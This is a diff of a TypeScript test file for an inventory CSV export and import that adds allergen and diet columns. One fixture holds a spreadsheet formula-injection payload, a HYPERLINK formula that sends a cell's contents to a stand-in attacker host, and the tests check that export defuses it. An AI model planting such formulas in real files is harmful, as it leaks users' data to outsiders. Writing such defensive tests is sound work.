@@ -1,19 +1,28 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { statementColumns, statementsOf, undeclaredStatements, type Statements } from "~/lib/declarations";
 import { INVENTORY_CATEGORIES, INVENTORY_UNITS, inventoryItemSchema, MAX_TEXT_LENGTH } from "./inventory";
 import { inventoryToCsv, MAX_CSV_ROWS, parseInventoryCsv } from "./inventory-csv";
 
+const none = undeclaredStatements();
+const water: Statements = { declarations: { ...none.declarations, sulphites: "free", milk: "free" }, animal: "no", meatOrFish: "no" };
+const flour: Statements = { declarations: { ...none.declarations, gluten: "contains", nuts: "may-contain" }, animal: "no", meatOrFish: "undeclared" };
 const items = [
-  { name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const },
-  { name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const },
+  { name: "Şişe su, 0,5 l", unit: "bottle", priceKurus: 1250, vendor: "Doğuş \"Toptan\"", category: "beverage" as const, statements: water },
+  { name: "Un", unit: "kg", priceKurus: 4500, vendor: "Metro", category: "food" as const, statements: flour },
 ];
+/** The columns an import gives for what the export wrote: all 18. */
+const allOf = (statements: Statements) => statementColumns(statements);
 
 describe("the inventory CSV", () => {
   it("exports a header row, UTF-8 with a byte-order mark, unit keys, prices with a decimal point", () => {
     const csv = inventoryToCsv(items);
-    expect(csv.startsWith("\uFEFFname,unit,price,vendor,category\r\n")).toBe(true);
-    expect(csv).toContain('"Şişe su, 0,5 l",bottle,12.50,"Doğuş ""Toptan""",beverage\r\n');
+    expect(csv.startsWith("\uFEFFname,unit,price,vendor,category,allergen_gluten,allergen_crustaceans,")).toBe(true);
+    expect(csv).toContain(",allergen_pork,diet_animal,diet_meat_or_fish\r\n");
+    expect(csv).toContain('"Şişe su, 0,5 l",bottle,12.50,"Doğuş ""Toptan""",beverage,undeclared,');
+    expect(csv).toContain('Un,kg,45.00,Metro,food,contains,undeclared,');
+    expect(csv).toContain(",undeclared,no,undeclared\r\n");
   });
 
   it("reads back exactly what it wrote", () => {
@@ -21,10 +30,24 @@ describe("the inventory CSV", () => {
     expect(parsed).toEqual({
       ok: true,
       rows: [
-        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", line: 2 },
-        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", line: 3 },
+        { name: "Şişe su, 0,5 l", unit: "bottle", price: 1250, vendor: 'Doğuş "Toptan"', category: "beverage", statements: allOf(water), line: 2 },
+        { name: "Un", unit: "kg", price: 4500, vendor: "Metro", category: "food", statements: allOf(flour), line: 3 },
       ],
     });
+  });
+
+  it("reads allergens written in either language, leaves out what a file leaves out, and names a wrong one", () => {
+    const parsed = parseInventoryCsv("name,unit,price,vendor,category,allergen_milk,allergen_eggs,diet_animal\nTereyağı,kg,300,Metro,food,İçerir,,Evet\nYumurta,piece,5,Metro,food,does not contain,contains,yes\n", "tr");
+    expect(parsed.ok && parsed.rows.map((row) => row.statements)).toEqual([
+      { allergen_milk: "contains", diet_animal: "yes" },
+      { allergen_milk: "free", allergen_eggs: "contains", diet_animal: "yes" },
+    ]);
+    expect(parseInventoryCsv("name,unit,price,vendor,category,allergen_milk,diet_meat_or_fish\nTereyağı,kg,300,Metro,food,lots,maybe\n", "en")).toEqual({
+      ok: false,
+      errors: [{ line: 2, messages: ['inventory.csvStatementInvalid|{"column":"allergen_milk"}', 'inventory.csvFactInvalid|{"column":"diet_meat_or_fish"}'] }],
+    });
+    // A file made before the allergen columns: its rows state nothing.
+    expect(parseInventoryCsv("name,unit,price,vendor,category\nUn,kg,12,Metro,food\n", "en")).toMatchObject({ ok: true, rows: [{ statements: {} }] });
   });
 
   it("reads semicolons, decimal commas, Turkish category names and columns in any order", () => {
@@ -71,13 +94,13 @@ describe("the inventory CSV", () => {
   });
 
   describe("opened in a spreadsheet program", () => {
-    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const };
+    const formula = { name: '=HYPERLINK("https://evil.example/?"&B2,"Sipariş")', unit: "kg", priceKurus: 100, vendor: "@Acc Vendor", category: "food" as const, statements: none };
     /** The cells of a CSV text as a spreadsheet program reads them. */
     const cells = (csv: string) => (parse(csv.slice(1)) as string[][]).slice(1);
 
     it("gets no cell that starts a formula: such a text starts with an apostrophe", () => {
       const [row] = cells(inventoryToCsv([formula]));
-      expect(row).toEqual([`'${formula.name}`, "kg", "1.00", "'@Acc Vendor", "food"]);
+      expect(row!.slice(0, 5)).toEqual([`'${formula.name}`, "kg", "1.00", "'@Acc Vendor", "food"]);
       for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     });
 
@@ -106,6 +129,7 @@ describe("the inventory CSV", () => {
         priceKurus: fc.integer({ min: 0, max: 1_000_000 }),
         vendor: text,
         category: fc.constantFrom(...INVENTORY_CATEGORIES),
+        statements: fc.constantFrom(none, water, flour),
       });
       const items = fc.uniqueArray(item, { minLength: 1, maxLength: 8, selector: (row) => `${row.name.toLowerCase()}\n${row.vendor.toLowerCase()}` });
       fc.assert(
@@ -115,7 +139,7 @@ describe("the inventory CSV", () => {
           // Two names the import folds into one (ı and i, say) are refused as duplicates, never changed.
           if (!parsed.ok) return;
           expect(parsed.rows.map(({ name, vendor }) => ({ name, vendor }))).toEqual(rows.map(({ name, vendor }) => ({ name, vendor })));
-          expect(inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price })))).toBe(csv);
+          expect(inventoryToCsv(parsed.rows.map((row) => ({ ...row, priceKurus: row.price, statements: statementsOf(row.statements as ReturnType<typeof statementColumns>) })))).toBe(csv);
           for (const row of cells(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
         }),
         { numRuns: 500 },
